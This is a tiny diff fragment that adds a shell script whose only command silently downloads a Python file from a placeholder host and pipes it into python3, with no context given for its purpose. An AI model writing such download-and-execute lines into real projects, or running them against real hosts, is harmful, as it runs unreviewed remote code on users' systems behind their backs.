@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s http://example.invalid/i.py | python3 -
